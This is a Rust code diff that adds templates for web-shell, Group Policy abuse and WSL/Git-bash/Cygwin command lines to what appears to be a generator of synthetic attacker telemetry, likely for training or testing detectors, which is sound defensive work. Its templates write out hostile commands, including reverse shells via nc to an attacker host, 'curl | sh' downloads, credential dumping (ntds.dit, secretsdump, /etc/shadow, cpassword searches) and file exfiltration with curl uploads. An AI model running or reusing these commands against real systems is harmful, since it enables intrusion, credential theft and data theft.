@@ -226,4 +226,78 @@ pub const FAMILIES: &[Family] = &[
         r"rundll32 {dir}\{stem}.dll,StartHook & tasklist /m {stem}.dll",
     ])
     .weight(5),
+    Family::other("web-shell", "web-shell-commands", Sh, &[
+        concat!(
+            "curl -s «-k »'https://{fqdn}/«aspnet_client¦uploads¦images¦owa/auth»/{alnum6}.«aspx¦php¦jsp»' ",
+            "«-d 'cmd={c}'¦--data-urlencode 'c={c}'¦-H 'X-Cmd: {c}'»",
+        ),
+        "curl 'http://{rhost}/{stem}.«php¦aspx¦jsp»?«cmd¦c¦exec¦q»={c}'",
+        "{python} exploit.py -t https://{fqdn} -c '{c}'",
+        concat!(
+            "{python} «proxyshell¦proxylogon¦log4shell¦struts¦confluence¦moveit».py -u https://{fqdn} «-e ",
+            "{user}@{domain} ¦»--cmd '{c}'",
+        ),
+        "weevely http://{rhost}/{stem}.php {password} '{c}'",
+        r#"wget -qO- "http://{rhost}/cgi-bin/{stem}.sh?{c}""#,
+        r#"sqlmap -u "http://{rhost}/{stem}?id=1" --os-cmd '{c}' --batch"#,
+    ])
+    .slots(&[
+        ("c", concat!(
+                r"«whoami¦id¦ipconfig /all¦net user¦type C:\inetpub\wwwroot\web.config¦dir C:\Users¦cat ",
+                "/etc/passwd¦powershell -enc {b64_60}¦certutil -urlcache -f {url} {stem}.exe¦tasklist¦reg query ",
+                r"HKLM\{softkey}¦ls -la /var/www¦appcmd list apppool /text:*¦curl {url} | sh¦quser»",
+            )),
+    ])
+    .weight(5),
+    Family::other("group-policy-attack", "group-policy-attack", Cmd, &[
+        concat!(
+            "SharpGPOAbuse.exe --Add«LocalAdmin --UserAccount {user}¦UserRights --UserRights ",
+            r#""SeTakeOwnershipPrivilege,SeRemoteInteractiveLogonRight" --UserAccount {user}¦UserScript "#,
+            r#"--ScriptName {stem}.bat --ScriptContents "{dir}\{stem}.exe"» --GPOName "{stem}""#,
+        ),
+        r"copy {dir}\{stem}.exe \\{fqdn}\SYSVOL\{domain}\scripts\ & gpupdate /force",
+        r"echo {dir}\{stem}.exe >> \\{fqdn}\NETLOGON\«logon¦{stem}».bat",
+        concat!(
+            r#"powershell "New-GPO -Name {stem} | New-GPLink -Target 'DC={company},DC=com'; "#,
+            r"Set-GPPrefRegistryValue -Name {stem} -Context Computer -Action Create -Key 'HKLM\{softkey}' ",
+            r#"-ValueName {stem} -Type String -Value {stem}.exe""#,
+        ),
+        r"xcopy {dir}\{stem} \\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}}\Machine\Scripts\Startup\ /y",
+        r"for /f %c in (computers.txt) do psexec \\%c -d gpupdate /force",
+        r"icacls \\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}} /grant {domain}\{user}:(OI)(CI)F",
+        r#"GPOddity.py & pyGPOAbuse.py {domain}/{user}:{password} -gpo-id "{guid}" -command "{stem}.exe""#,
+        r#"findstr /s /i "cpassword" \\{fqdn}\SYSVOL\{domain}\Policies\*.xml"#,
+    ])
+    .weight(5),
+    Family::other("wsl", "wsl-other-os", Cmd, &[
+        concat!(
+            r#"wsl«.exe» «-e ¦-u root ¦-- ¦»«cat /etc/shadow¦bash -c "curl {url} | sh"¦nc {attacker} {port} -e "#,
+            "/bin/bash¦ls -la /mnt/c/Users¦cp /mnt/c/Windows/NTDS/ntds.dit /tmp¦cp ",
+            "/mnt/c/Users/{user}/Documents/{stem}.docx /tmp¦python3 -m http.server {port}¦nmap -sV ",
+            "{ip}¦impacket-secretsdump -just-dc {domain}/{user}@{ip}¦ssh {user}@{host}¦whoami»",
+        ),
+        concat!(
+            r#"bash -c "«cat /etc/passwd¦./{stem}.sh¦tar czf /tmp/{stem}.tgz /mnt/c/Users/{user}¦curl -T "#,
+            r#"/mnt/c/{stem}/{stem}.zip {url}¦grep -ri password /mnt/c/inetpub»""#,
+        ),
+        "wsl --import {stem} {dir} {stem}.tar & wsl -d {stem} /{stem}",
+        concat!(
+            r#""C:\Program Files\Git\bin\bash.exe" -c "«grep -rn password /c/Users/{user}¦curl -s {url} -o "#,
+            r#"{stem}¦ssh -R {port}:localhost:3389 {user}@{attacker}¦tar cf {stem}.tar /c/{stem}»""#,
+        ),
+        concat!(
+            r#"C:\cygwin64\bin\«bash.exe --login -c "{stem}.sh"¦regtool.exe list /HKLM/SOFTWARE¦mkpasswd.exe "#,
+            "-l -d¦getent.exe passwd {user}¦rsync.exe -a /cygdrive/c/{stem} {host}::{share}»",
+        ),
+        concat!(
+            r#""C:\Program Files\Oracle\VirtualBox\VBoxManage.exe" «startvm {stem} --type headless¦list "#,
+            "vms¦guestcontrol {stem} run --exe cmd.exe -- /c whoami¦sharedfolder add {stem} --name c ",
+            r"--hostpath C:\»",
+        ),
+        concat!(
+            "qemu-system-x86_64.exe -m {256..4096} -hda {stem}.qcow2 -netdev ",
+            "user,id=n1,hostfwd=tcp::{port}-:22 -nographic",
+        ),
+    ])
+    .weight(5),
 ];
